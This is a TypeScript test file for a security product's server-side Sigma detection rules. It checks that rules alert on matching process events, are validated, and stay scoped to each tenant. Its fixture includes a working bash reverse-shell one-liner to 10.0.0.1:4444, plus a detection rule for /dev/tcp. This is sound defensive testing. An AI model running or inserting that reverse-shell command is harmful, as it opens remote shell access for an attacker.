import { test } from 'node:test';
import assert from 'node:assert/strict';
import { TEST_DIALECTS } from '@yamori/db';
import type { Alert, ServerRule, ServerRuleSummary } from '@yamori/protocol';
import { buildApp } from '../../app.ts';
import { loadConfig } from '../../config.ts';
import { detectionEvent, enrollAgent, login, postEvents, processEvent, startHarness, type Harness } from '../../test-support.ts';

const RULE = `title: Reverse shell through bash /dev/tcp (server)
id: 0c3a5f43-5e0c-4d7b-9d2e-server-rule-1
status: experimental
tags:
  - attack.execution
  - attack.t1059.004
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    CommandLine|contains: '/dev/tcp/'
  condition: selection
level: high
`;
const OTHER = RULE.replace('server-rule-1', 'server-rule-2').replace('(server)', '(second)');
const SHELL = { command_line: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', args: ['bash', '-i'], executable: '/usr/bin/bash' };

async function alertsOf(h: Harness, tenantId = h.tenantId, session = h.owner): Promise<Alert[]> {
  await h.serverRules.idle();
  return ((await session.request('GET', `/api/v1/tenants/${tenantId}/alerts?module=server-rule`)).json() as { items: Alert[] }).items;
}

for (const kind of TEST_DIALECTS) {
  test(`${kind}: server rules: a matching ingested event becomes an alert with the rule; others, disabled and deleted rules make none`, async () => {
    const h = await startHarness(kind);
    try {
      const base = `/api/v1/tenants/${h.tenantId}/server-rules`;
      const req = (method: string, url: string, body?: unknown) => h.owner.request(method, url, body);
      const a = await enrollAgent(h, h.owner, h.tenantId);

      const created = await req('POST', base, { source: RULE });
      assert.equal(created.statusCode, 201, created.body);
      const s = created.json() as ServerRuleSummary;
      assert.equal(s.sigmaId, '0c3a5f43-5e0c-4d7b-9d2e-server-rule-1');
      assert.equal(s.title, 'Reverse shell through bash /dev/tcp (server)');
      assert.equal(s.level, 'high');
      assert.equal(s.enabled, true);
      assert.equal(((await req('GET', `${base}/${s.id}`)).json() as ServerRule).source, RULE);
      assert.deepEqual(((await req('GET', base)).json() as ServerRuleSummary[]).map((r) => r.id), [s.id]);
      assert.equal((await req('POST', base, { source: RULE })).statusCode, 409, 'the same Sigma id twice');

      // A benign event: stored, acknowledged, no alert.
      const benign = await postEvents(h.app, a.auth, [processEvent(1, { command_line: 'ls -la', args: ['ls', '-la'] })]);
      assert.equal(benign.statusCode, 200, benign.body);
      assert.deepEqual(await alertsOf(h), []);

      // The matching event: an alert carrying the rule, marked as a server rule's detection.
      const res = await postEvents(h.app, a.auth, [processEvent(2, SHELL), processEvent(3, { command_line: 'true', args: ['true'] })]);
      assert.equal(res.statusCode, 200, res.body);
      assert.equal((res.json() as { accepted: number }).accepted, 2);
      let alerts = await alertsOf(h);
      assert.equal(alerts.length, 1);
      const al = alerts[0] as Alert;
      assert.equal(al.ruleId, s.sigmaId);
      assert.equal(al.ruleName, 'Reverse shell through bash /dev/tcp (server)');
      assert.equal(al.severity, 'high');
      assert.equal(al.module, 'server-rule');
      assert.equal(al.action, 'detected');
      assert.equal(al.mode, 'monitor');
      assert.equal(al.agentId, a.agentId);
      assert.equal(al.processExecutable, '/usr/bin/bash');
      const ev = al.event as { rule: { tags: string[] }; threat: { technique: Array<{ id: string }> }; yamori: { source: string; outcome: string }; process: { command_line: string } };
      assert.deepEqual(ev.rule.tags, ['attack.execution', 'attack.t1059.004']);
      assert.deepEqual(ev.threat.technique, [{ id: 'T1059.004' }]);
      assert.equal(ev.yamori.source, 'server_rule');
      assert.equal(ev.yamori.outcome, 'detected');
      assert.equal(ev.process.command_line, SHELL.command_line);

      // The same rule on the same host and program within the window adds to that alert, also
      // several times in one batch.
      await postEvents(h.app, a.auth, [processEvent(4, SHELL)]);
      alerts = await alertsOf(h);
      assert.equal(alerts.length, 1);
      assert.equal(alerts[0]?.count, 2);
      await postEvents(h.app, a.auth, [processEvent(40, SHELL), processEvent(41, SHELL), processEvent(42, SHELL)]);
      alerts = await alertsOf(h);
      assert.equal(alerts.length, 1);
      assert.equal(alerts[0]?.count, 5);
      assert.equal(alerts[0]?.lastSeen, processEvent(42)['@timestamp']);

      // A resent batch (same id) is not evaluated twice.
      const batchId = crypto.randomUUID();
      await postEvents(h.app, a.auth, [processEvent(5, SHELL)], batchId);
      await postEvents(h.app, a.auth, [processEvent(5, SHELL)], batchId);
      assert.equal((await alertsOf(h))[0]?.count, 6);

      // The agents' own detections are never evaluated (rules must not fire on alerts).
      const det = { ...detectionEvent('agent-rule'), process: { entity_id: 'p9', pid: 9, executable: '/usr/bin/bash', command_line: SHELL.command_line } };
      assert.equal((await postEvents(h.app, a.auth, [det])).statusCode, 200);
      assert.equal((await alertsOf(h))[0]?.count, 6);

      // Disabled: no more alerts; enabled again: they come back.
      const off = await req('PATCH', `${base}/${s.id}`, { enabled: false });
      assert.equal(off.statusCode, 200, off.body);
      assert.equal((off.json() as ServerRuleSummary).enabled, false);
      assert.equal((off.json() as ServerRuleSummary).version, 2);
      await postEvents(h.app, a.auth, [processEvent(6, SHELL)]);
      assert.equal((await alertsOf(h))[0]?.count, 6);
      await req('PATCH', `${base}/${s.id}`, { enabled: true });
      await postEvents(h.app, a.auth, [processEvent(7, SHELL)]);
      assert.equal((await alertsOf(h))[0]?.count, 7);

      // Deleted: no more alerts.
      assert.equal((await req('DELETE', `${base}/${s.id}`)).statusCode, 204);
      assert.equal((await req('GET', `${base}/${s.id}`)).statusCode, 404);
      assert.equal((await req('DELETE', `${base}/${s.id}`)).statusCode, 404);
      await postEvents(h.app, a.auth, [processEvent(8, SHELL)]);
      assert.equal((await alertsOf(h))[0]?.count, 7);

      const { items } = (await req('GET', `/api/v1/tenants/${h.tenantId}/audit?limit=50`)).json() as { items: Array<{ action: string; target: string }> };
      assert.deepEqual(
        items.filter((x) => x.target === `server_rule:${s.id}`).map((x) => x.action).sort(),
        ['server_rule.created', 'server_rule.deleted', 'server_rule.disabled', 'server_rule.enabled'],
      );
    } finally {
      await h.close();
    }
  });

  test(`${kind}: server rules: a rule that does not parse or compile is refused with its line and reason; nothing is stored`, async () => {
    const h = await startHarness(kind);
    try {
      const base = `/api/v1/tenants/${h.tenantId}/server-rules`;
      const req = (method: string, url: string, body?: unknown) => h.owner.request(method, url, body);
      const cases: Array<[string, RegExp]> = [
        [RULE.replace("    CommandLine|contains: '/dev/tcp/'", "    CommandLine|contains: '/dev/tcp/\n  oops: ["), /^rule rejected: line \d+: bad YAML/],
        [RULE.replace('contains', 'nosuchmodifier'), /^rule rejected: line 12: .*nosuchmodifier/],
        [RULE.replace('CommandLine', 'NoSuchField'), /^rule rejected: line 12: .*NoSuchField/],
        [RULE.replace('condition: selection', 'condition: selection and missing'), /^rule rejected: line 13: .*missing/],
        [RULE.replace(/^id: .*\n/m, ''), /^rule rejected: line 1: a server rule needs an id/],
      ];
      for (const [source, reason] of cases) {
        const res = await req('POST', base, { source });
        assert.equal(res.statusCode, 400, `${res.body}\n${source}`);
        const body = res.json() as { code: string; message: string; details: string[] };
        assert.equal(body.code, 'invalid_input');
        assert.match(body.message, reason);
        assert.match(body.details[0] ?? '', /^line \d+: /);
      }
      assert.equal((await req('POST', base, { source: '' })).statusCode, 400);
      assert.equal((await req('POST', base, { source: RULE, extra: 1 })).statusCode, 400);
      assert.deepEqual((await req('GET', base)).json(), []);
      const { items } = (await req('GET', `/api/v1/tenants/${h.tenantId}/audit?limit=50`)).json() as { items: Array<{ action: string }> };
      assert.deepEqual(items.filter((x) => x.action.startsWith('server_rule.')), []);
    } finally {
      await h.close();
    }
  });

  test(`${kind}: server rules: readers list, writers change; another tenant's rules never list or evaluate here`, async () => {
    const h = await startHarness(kind);
    try {
      const A = h.tenantId;
      const req = (method: string, url: string, body?: unknown) => h.owner.request(method, url, body);
      const mk = async (role: string, scope = 'write') =>
        ((await req('POST', `/api/v1/tenants/${A}/tokens`, { name: `${role}-${scope}`, role, scope })).json() as { secret: string }).secret;
      const as = (secret: string) => (method: string, url: string, body?: unknown) =>
        h.app.inject({ method: method as 'GET', url, headers: { authorization: `Bearer ${secret}` }, ...(body === undefined ? {} : { payload: body as object }) });
      const reader = as(await mk('owner', 'read'));
      const helpdesk = as(await mk('helpdesk'));
      const analyst = as(await mk('analyst'));
      assert.equal((await reader('POST', `/api/v1/tenants/${A}/server-rules`, { source: RULE })).statusCode, 403);
      assert.equal((await helpdesk('POST', `/api/v1/tenants/${A}/server-rules`, { source: RULE })).statusCode, 403);
      const mine = await analyst('POST', `/api/v1/tenants/${A}/server-rules`, { source: OTHER, enabled: false });
      assert.equal(mine.statusCode, 201, mine.body);
      assert.equal((await reader('GET', `/api/v1/tenants/${A}/server-rules`)).statusCode, 200);
      assert.equal((await reader('PATCH', `/api/v1/tenants/${A}/server-rules/${(mine.json() as ServerRuleSummary).id}`, { enabled: true })).statusCode, 403);

      // Tenant B (a different owner) holds a rule that would match A's event.
      const B = ((await req('POST', '/api/v1/tenants', { name: 'Tenant B' })).json() as { id: string }).id;
      await req('POST', `/api/v1/tenants/${B}/users`, { email: 'b-owner@example.com', name: 'B', password: 'correct horse battery', role: 'owner' });
      const bSession = await login(h.app, 'b-owner@example.com', 'correct horse battery');
      const bRule = await bSession.request('POST', `/api/v1/tenants/${B}/server-rules`, { source: RULE });
      assert.equal(bRule.statusCode, 201, bRule.body);
      const bRuleId = (bRule.json() as ServerRuleSummary).id;

      // A's list shows A's rule only; B's rule is not found through A.
      assert.deepEqual(((await req('GET', `/api/v1/tenants/${A}/server-rules`)).json() as ServerRuleSummary[]).map((r) => r.title), ['Reverse shell through bash /dev/tcp (second)']);
      assert.equal((await req('GET', `/api/v1/tenants/${A}/server-rules/${bRuleId}`)).statusCode, 404);
      assert.equal((await req('PATCH', `/api/v1/tenants/${A}/server-rules/${bRuleId}`, { enabled: false })).statusCode, 404);
      assert.equal((await req('DELETE', `/api/v1/tenants/${A}/server-rules/${bRuleId}`)).statusCode, 404);

      // A's agent sends the matching event: B's rule does not fire on it, in A or in B.
      const a = await enrollAgent(h, h.owner, A);
      assert.equal((await postEvents(h.app, a.auth, [processEvent(1, SHELL)])).statusCode, 200);
      assert.deepEqual(await alertsOf(h, A), []);
      assert.deepEqual(await alertsOf(h, B, bSession), []);
      // B's agent sends it: B's rule fires in B, and A sees nothing.
      const b = await enrollAgent(h, bSession, B);
      assert.equal((await postEvents(h.app, b.auth, [processEvent(2, SHELL)])).statusCode, 200);
      assert.equal((await alertsOf(h, B, bSession)).length, 1);
      assert.deepEqual(await alertsOf(h, A), []);
    } finally {
      await h.close();
    }
  });
}

for (const kind of TEST_DIALECTS) {
  test(`${kind}: server rules: a change made through one instance is in force on another instance's next batch`, async () => {
    const h = await startHarness(kind);
    const other = await buildApp({ database: h.database, config: loadConfig({ dataDir: '/tmp/yamori-unused', databaseUrl: 'sqlite::memory:', insecureHttp: true, publicUrl: 'http://127.0.0.1:1' }), ca: null });
    try {
      const base = `/api/v1/tenants/${h.tenantId}/server-rules`;
      const a = await enrollAgent(h, h.owner, h.tenantId);
      const count = async () => {
        await other.serverRules.idle();
        return (await alertsOf(h))[0]?.count ?? 0;
      };
      const id = ((await h.owner.request('POST', base, { source: RULE })).json() as ServerRuleSummary).id;
      // The other instance compiles the tenant's rules at its first batch and caches them.
      await postEvents(other.app, a.auth, [processEvent(1, SHELL)]);
      assert.equal(await count(), 1);
      await h.owner.request('PATCH', `${base}/${id}`, { enabled: false });
      await postEvents(other.app, a.auth, [processEvent(2, SHELL)]);
      assert.equal(await count(), 1, 'disabled through the first instance: the second no longer alerts');
      await h.owner.request('PATCH', `${base}/${id}`, { enabled: true });
      await postEvents(other.app, a.auth, [processEvent(3, SHELL)]);
      assert.equal(await count(), 2);
      await h.owner.request('DELETE', `${base}/${id}`);
      await h.owner.request('POST', base, { source: OTHER });
      await postEvents(other.app, a.auth, [processEvent(4, SHELL)]);
      await other.serverRules.idle();
      const alerts = await alertsOf(h);
      assert.deepEqual(alerts.map((x) => [x.ruleId, x.count]).sort(), [['0c3a5f43-5e0c-4d7b-9d2e-server-rule-1', 2], ['0c3a5f43-5e0c-4d7b-9d2e-server-rule-2', 1]]);
    } finally {
      await other.app.close();
      await h.close();
    }
  });
}
